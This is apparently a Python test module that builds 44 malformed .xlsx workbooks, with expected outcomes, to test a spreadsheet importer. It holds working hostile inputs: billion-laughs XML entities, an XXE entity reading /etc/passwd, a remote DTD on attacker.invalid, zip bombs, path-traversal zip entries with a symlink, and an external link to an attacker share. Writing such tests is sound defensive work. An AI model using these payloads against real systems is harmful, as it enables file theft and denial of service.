"""The 44 bad workbooks of the catalogue, made by code."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path

from tests.catalogue import zips
from tests.catalogue.case import Case
from tests.catalogue.csv_cases import GOOD as TEXT
from tests.models import workbooks
from tests.models.workbooks import GOOD, NAMES, SHEET, changed, parts, zipped

STRINGS = "xl/sharedStrings.xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION = f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'
VAST = f'<!DOCTYPE x [<!ENTITY v "{"v" * 100_000}">]>'
FILE = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
AWAY = "http://attacker.invalid"
WEB = f'<!DOCTYPE x SYSTEM "{AWAY}/x.dtd" [<!ENTITY w SYSTEM "{AWAY}/w">]>'
Make = Callable[[], bytes]


def inline(place: str, text: str) -> str:
    """A cell with its own text."""
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


ROWS = (
    f'<row r="1">{inline("A1", "name")}{inline("B1", "role")}</row>'
    f'<row r="2">{inline("A2", NAMES[0])}{inline("B2", "Chair")}</row>'
    f'<row r="3">{inline("A3", NAMES[1])}{inline("B3", "Member")}</row>'
)


def replaced(**new: bytes) -> bytes:
    """The good workbook with parts replaced or added; __ stands for / and _xml for .xml."""
    named = {name.replace("__", "/").replace("_xml", ".xml"): data for name, data in new.items()}
    kept = [(name, data) for name, data in parts() if name not in named]
    return zipped([*kept, *named.items()])


def sheet(rows: str, head: str = "", before: str = "", after: str = "") -> bytes:
    """The good workbook with this sheet."""
    inside = f"{before}<sheetData>{rows}</sheetData>{after}"
    xml = f'<?xml version="1.0"?>{head}<worksheet xmlns="{SPACE}">{inside}</worksheet>'
    return zipped([(name, xml.encode() if name == SHEET else data) for name, data in parts()])


def plus(*cells: str) -> bytes:
    """The good sheet with more cells in a row that names no place."""
    return sheet(ROWS + "".join(f"<row>{cell}</row>" for cell in cells))


def by_hand(*more: zips.Entry, but: str = "") -> bytes:
    """The good workbook written by hand, with more entries, and without one."""
    return zips.zip_of([*(zips.stored(n, d) for n, d in parts() if n != but), *more])


def blown(mebibytes: int, claims: int | None = None) -> bytes:
    """The good workbook whose sheet unpacks to so much."""
    start = f'<worksheet xmlns="{SPACE}"><sheetData>{ROWS}'.encode()
    return by_hand(zips.blown_up(SHEET, start, mebibytes, claims), but=SHEET)


def encrypted() -> bytes:
    """Every entry says that it is encrypted."""
    return zips.zip_of([zips.stored(name, data, flags=0x801) for name, data in parts()])


def two_books() -> bytes:
    """Two parts of one name."""
    return by_hand(
        zips.stored("xl/workbook.xml", b"<workbook/>"), zips.stored(SHEET, b"<worksheet/>")
    )


def climbing() -> bytes:
    """Entries that would land elsewhere, and a link."""
    names = ("../../evil.txt", "/etc/x", "C:\\x")
    evil = [zips.stored(name, b"evil") for name in names]
    return by_hand(*evil, zips.stored("link", b"/etc/passwd", mode=0o120777))


def wrong_sum() -> bytes:
    """A checksum that does not fit."""
    return by_hand(zips.Entry(SHEET, dict(parts())[SHEET], 0, -1, 12345), but=SHEET)


def a_zip_of(name: str, data: bytes) -> bytes:
    """A zip of one file."""
    return zips.zip_of([zips.stored(name, data)])


def second_directory() -> bytes:
    """A zip comment that holds another zip's end."""
    other = a_zip_of("xl/workbook.xml", b"<other/>")
    return zips.zip_of([zips.stored(name, data) for name, data in parts()], comment=other)


def people(book: object) -> None:
    """Hidden rows, a hidden column and a hidden sheet, each with somebody in them."""
    page = book.add_worksheet("Shown")  # type: ignore[attr-defined]  # xlsxwriter has no types
    secret = book.add_worksheet("Secret")  # type: ignore[attr-defined]  # likewise
    workbooks.filled(page)
    page.write_row(3, 0, ["Efua Hidden", "Org", "", ""])
    page.set_row(3, None, None, {"hidden": True})
    page.set_column(1, 1, None, None, {"hidden": True})
    secret.write_row(0, 0, ["Name"])
    secret.write_row(1, 0, ["Esi Secret"])
    secret.hide()


def formulas() -> bytes:
    """Formulas with a result and without."""
    done = '<c r="A4" t="str"><f>UPPER("efua")</f><v>EFUA</v></c>'
    return plus(done, '<c r="A5"><f>HYPERLINK("http://x","y")</f></c>')


def dates() -> bytes:
    """Day numbers that are no days, in cells that are shown as days."""
    styled = dict(parts())["xl/styles.xml"].replace(
        b"</cellXfs>", b'<xf numFmtId="14" fontId="0" fillId="0" borderId="0"/></cellXfs>'
    )
    numbers = "".join(
        f'<row>{inline(f"A{n}", f"P{n}")}<c r="B{n}" s="1"><v>{day}</v></c></row>'
        for n, day in enumerate(("-1", "60", "2958466", "1e20"), 4)
    )
    made = sheet(ROWS.replace("role", "born") + numbers)
    return zipped([(n, styled if n == "xl/styles.xml" else d) for n, d in parts(made)])


def escapes() -> bytes:
    """Controls written as spreadsheets write them, and a real one."""
    texts = "".join(
        f"<row>{inline(f'A{n}', text)}</row>"
        for n, text in enumerate(("E_x0000_f_x000B_ua", "Es_xD83D_i"), 4)
    )
    return sheet(ROWS + texts)


def many_entries() -> bytes:
    """60,000 empty entries."""
    return by_hand(*(zips.Entry(f"xl/{n}", b"") for n in range(60_000)))


def office_file() -> bytes:
    """A Word file, as far as one looks."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as parcel:
        parcel.writestr("[Content_Types].xml", "<Types/>")
        parcel.writestr("word/document.xml", "<document/>")
    return made.getvalue()


def outside_link() -> bytes:
    """A link to a workbook on somebody's share."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"
    target = "file:///\\\\attacker.invalid\\s\\b.xlsx"
    rels = f'<Relationships><Relationship Id="r1" Type="{kind}" Target="{target}"/></Relationships>'
    return replaced(
        xl__externalLinks__externalLink1_xml=b"<externalLink/>",
        **{"xl__externalLinks___rels__externalLink1_xml.rels": rels.encode()},
    )


def odd_sheet_name() -> bytes:
    """A sheet whose name is a path, very long, and markup."""
    name = b'"../../' + b"x" * 500 + b'&lt;b&gt;"'
    return changed("xl/workbook.xml", b'"Sheet1"', name)


def case(
    id: str, what: str, expected: str, make: Make, says: str = "", rows: int | None = None
) -> Case:
    """A case whose expected outcomes stand as in the catalogue."""

    def write(folder: Path) -> Path:
        path = folder / "people.xlsx"
        path.write_bytes(make())
        return path

    return Case(id, what, frozenset(expected.split(" / ")), write, says, rows)


def fixed(data: bytes) -> Make:
    """What makes these bytes."""
    return lambda: data


CASES = (
    case("X001", "control: a good workbook", "ACCEPT", fixed(GOOD), rows=2),
    case("X002", "0 bytes", "REJECT", fixed(b"")),
    case("X003", "cut at half", "REJECT", fixed(GOOD[: len(GOOD) // 2])),
    case("X004", "text renamed", "REJECT", fixed(TEXT.encode()), "CSV"),
    case("X005", "an empty zip", "REJECT", partial(zips.zip_of, [])),
    case("X006", "a Word file renamed", "REJECT", office_file, "Word"),
    case("X007", "old binary Excel", "REJECT", fixed(OLE + "Workbook".encode("utf-16-le")), "xlsx"),
    case("X008", "protected by a password", "REJECT",
         fixed(OLE + "EncryptedPackage".encode("utf-16-le")), "password"),
    case("X009", "with a macro part", "ACCEPT / REJECT",
         partial(replaced, **{"xl__vbaProject.bin": b"\x00macro"}), rows=2),
    case("X010", "1 GB when unpacked", "REJECT", partial(blown, 1024)),
    case("X011", "100 MB when unpacked", "REJECT", partial(blown, 100)),
    case("X012", "says 100 bytes, 60 MB come out", "REJECT", partial(blown, 60, 100)),
    case("X013", "entity expansion in the texts", "REJECT",
         lambda: changed(STRINGS, b"<sst", BILLION.encode() + b"<sst")),
    case("X014", "entity expansion in the sheet", "REJECT",
         lambda: sheet(ROWS + inline("A4", "&l9;"), BILLION)),
    case("X015", "one 100 KB entity used 2,000 times", "REJECT",
         lambda: sheet(ROWS + inline("A4", "&v;" * 2_000), VAST)),
    case("X016", "an entity that reads a file", "REJECT",
         lambda: sheet(ROWS + inline("A4", "&f;"), FILE)),
    case("X017", "an entity and a DTD on a web server", "REJECT",
         lambda: sheet(ROWS + inline("A4", "&w;"), WEB)),
    case("X018", "says A1:XFD1048576, has two rows", "ACCEPT",
         lambda: sheet(ROWS, before='<dimension ref="A1:XFD1048576"/>'), rows=2),
    case("X019", "one cell at XFD1048576", "WARN",
         lambda: plus(inline("XFD1048576", "far")), "XFD1048576", 2),
    case("X020", "a million empty rows", "ACCEPT / WARN",
         lambda: sheet(ROWS + "".join(f'<row r="{n}" s="1"/>' for n in range(4, 1_000_004))),
         rows=2),
    case("X021", "row r=99999999999", "WARN",
         lambda: sheet(ROWS + f'<row r="99999999999">{inline("A99999999999", "x")}</row>'), rows=2),
    case("X022", "references ZZZZ0 and A-1", "WARN",
         lambda: plus(inline("ZZZZ0", "x"), inline("A-1", "y")), "A-1", 2),
    case("X023", "a text number that is not there", "WARN",
         lambda: plus('<c r="A4" t="s"><v>999</v></c>'), "A4", 2),
    case("X024", "formulas with and without a result", "WARN", formulas, "A5", 3),
    case("X025", "#REF! and #N/A cells", "WARN",
         lambda: plus('<c r="A4" t="e"><v>#REF!</v></c>', '<c r="A5" t="e"><v>#N/A</v></c>'),
         "A4", 2),
    case("X026", "boolean 2, number abc, unknown type", "WARN",
         lambda: plus('<c r="A4" t="b"><v>2</v></c>', '<c r="A5"><v>abc</v></c>',
                      '<c r="B6" t="zz"><v>x</v></c>'), "A4"),
    case("X027", "day numbers that are no days", "WARN", dates, "born", 6),
    case("X028", "escapes of controls", "CLEAN", escapes, rows=4),
    case("X029", "hidden sheet, rows and columns", "WARN", lambda: workbooks.made(people),
         "hidden", 3),
    case("X030", "sheet names that are paths and markup", "WARN", odd_sheet_name, rows=2),
    case("X031", "entries that climb out, and a link", "ACCEPT / REJECT", climbing, rows=2),
    case("X032", "two workbooks in one", "REJECT / WARN", two_books),
    case("X033", "link to a workbook on a share", "ACCEPT / REJECT / WARN", outside_link, rows=2),
    case("X034", "a wrong checksum", "REJECT / WARN", wrong_sum),
    case("X035", "entries flagged as encrypted", "REJECT", encrypted),
    case("X036", "XML parts in UTF-16", "ACCEPT / REJECT", workbooks.in_utf16, rows=2),
    case("X037", "ISO strict names", "REJECT / ACCEPT", workbooks.strict, rows=2),
    case("X038", "65,000 cell styles", "ACCEPT",
         lambda: changed("xl/styles.xml", b"</cellXfs>", b'<xf numFmtId="0"/>' * 65_000
                         + b"</cellXfs>"), rows=2),
    case("X039", "merged over the whole sheet", "ACCEPT",
         lambda: sheet(ROWS, after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
         rows=2),
    case("X040", "60,000 zip entries", "REJECT / ACCEPT", many_entries),
    case("X041", "a zip of a zip", "REJECT", lambda: a_zip_of("inner.xlsx", GOOD)),
    case("X042", "a comment with a second directory", "REJECT / ACCEPT", second_directory, rows=2),
    case("X043", "100,000 nested elements", "REJECT",
         lambda: sheet("<row>" * 100_000 + "</row>" * 100_000)),
    case("X044", "300,000 shared texts, two used", "ACCEPT",
         lambda: changed(STRINGS, b"</sst>", b"<si><t>s</t></si>" * 300_000 + b"</sst>"), rows=2),
)  # fmt: skip
"""Each case as the catalogue has it; ``expected`` is its column of outcomes."""
